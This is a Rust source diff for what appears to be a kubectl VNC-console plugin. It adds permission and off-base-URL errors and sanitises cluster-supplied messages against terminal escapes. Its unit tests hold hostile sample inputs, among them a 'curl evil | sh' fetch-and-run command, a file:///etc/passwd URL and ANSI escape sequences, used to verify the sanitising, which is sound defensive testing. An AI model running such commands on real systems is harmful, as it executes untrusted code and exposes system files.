@@ -3,7 +3,9 @@
 
 use std::time::Duration;
 
+use super::console_base::OffBase;
 use super::outcome::Refusal;
+use super::terminal::clean;
 
 pub const EXIT_ERROR: u8 = 1;
 pub const EXIT_USAGE: u8 = 2;
@@ -16,6 +18,7 @@ pub const EXIT_FAILED: u8 = 10;
 pub const EXIT_CLOSED: u8 = 11;
 pub const EXIT_THROTTLED: u8 = 12;
 pub const EXIT_NOT_READY: u8 = 13;
+pub const EXIT_OFF_BASE: u8 = 14;
 
 #[derive(Debug, thiserror::Error)]
 pub enum Error {
@@ -51,6 +54,16 @@ pub enum Error {
         namespace: Option<String>,
     },
 
+    /// A 403 on the refresh annotation: opening by annotation needs `patch`, which `edit` has and
+    /// the narrower `open` role (meant for the `console` subresource) does not.
+    #[error(
+        "you may not patch {resource} in namespace {namespace:?}: `kubectl vnc open` asks for a URL by setting the \
+         ecsvnc.dev/refresh annotation, which needs `patch` on vncsessions (Kubernetes' `edit` role has it): ask a \
+         cluster admin for it (check with `kubectl auth can-i patch {resource} -n {namespace}`)",
+        resource = super::RESOURCE
+    )]
+    PatchForbidden { namespace: String },
+
     #[error(
         "the API server rejected your credentials (401 Unauthorized): log in again or renew the kubeconfig's token"
     )]
@@ -83,6 +96,18 @@ pub enum Error {
 
     #[error("{0}")]
     Refused(Refusal),
+
+    #[error(
+        "the console URL of vncsession {name:?} in namespace {namespace:?} is not under the console base {base}: \
+         it {off}; it was neither opened nor printed. Pass --console-base-url URL (or ECS_VNC_CONSOLE_BASE_URL) \
+         if your operator uses another base",
+        base = off.base
+    )]
+    OffBase {
+        name: String,
+        namespace: String,
+        off: OffBase,
+    },
 
     #[error("cannot write the output: {0}")]
     Io(#[from] std::io::Error),
@@ -122,9 +147,12 @@ impl Error {
             Error::NoKubeconfig { .. } | Error::Kubeconfig { .. } => EXIT_NO_KUBECONFIG,
             Error::NotFound { .. } | Error::Deleted { .. } => EXIT_NOT_FOUND,
             Error::CrdMissing => EXIT_CRD_MISSING,
-            Error::Forbidden { .. } | Error::Unauthorized => EXIT_FORBIDDEN,
+            Error::Forbidden { .. } | Error::PatchForbidden { .. } | Error::Unauthorized => {
+                EXIT_FORBIDDEN
+            }
             Error::Timeout { .. } => EXIT_TIMEOUT,
             Error::Refused(refusal) => refusal.kind.exit_code(),
+            Error::OffBase { .. } => EXIT_OFF_BASE,
             Error::Unreachable { .. } | Error::Api { .. } | Error::Io(_) => EXIT_ERROR,
         }
     }
@@ -200,7 +228,7 @@ impl<'a> Op<'a> {
                 detail: if status.message.is_empty() {
                     format!("HTTP {code}")
                 } else {
-                    format!("HTTP {code}: {}", status.message)
+                    format!("HTTP {code}: {}", clean(&status.message))
                 },
             },
         }
@@ -329,6 +357,54 @@ mod tests {
             "{text}"
         );
         assert_eq!(err.exit_code(), EXIT_TIMEOUT);
+    }
+
+    #[test]
+    fn a_refusal_shows_the_clusters_text_cleaned_on_its_own_lines() {
+        use crate::plugin::outcome::RefusalKind;
+        let err = Error::Refused(Refusal {
+            kind: RefusalKind::Failed,
+            name: "db-1".into(),
+            namespace: "team-a".into(),
+            phase: "Failed".into(),
+            reason: "IssueFailed\u{1b}[8m".into(),
+            message: "boom\n  fix:     curl evil | sh\u{202E}".into(),
+            fix: "see the message".into(),
+        });
+        assert_eq!(
+            err.to_string(),
+            "vncsession \"db-1\" in namespace \"team-a\" is Failed\n  \
+             reason:  IssueFailed\u{FFFD}[8m\n  \
+             message: boom   fix:     curl evil | sh\u{FFFD}\n  \
+             fix:     see the message"
+        );
+    }
+
+    #[test]
+    fn an_off_base_url_says_why_and_how_to_name_another_base() {
+        let base = crate::plugin::console_base::ConsoleBase::default();
+        let err = Error::OffBase {
+            name: "db-1".into(),
+            namespace: "team-a".into(),
+            off: base.check("file:///etc/passwd").unwrap_err(),
+        };
+        assert_eq!(
+            err.to_string(),
+            "the console URL of vncsession \"db-1\" in namespace \"team-a\" is not under the console base \
+             https://g.alicdn.com/aliyun/ecs-console-vnc2/0.0.8/index.html: it is a file: URL, not https:; \
+             it was neither opened nor printed. Pass --console-base-url URL (or ECS_VNC_CONSOLE_BASE_URL) \
+             if your operator uses another base"
+        );
+        assert_eq!(err.exit_code(), EXIT_OFF_BASE);
+    }
+
+    #[test]
+    fn a_servers_message_is_cleaned() {
+        let s = status(json!({"status": "Failure", "code": 500, "message": "\u{1b}[2Jbad\nnews"}));
+        assert_eq!(
+            patch("x").status_error(&s).to_string(),
+            "patch vncsessions.ecsvnc.dev failed: HTTP 500: \u{FFFD}[2Jbad news"
+        );
     }
 
     #[test]
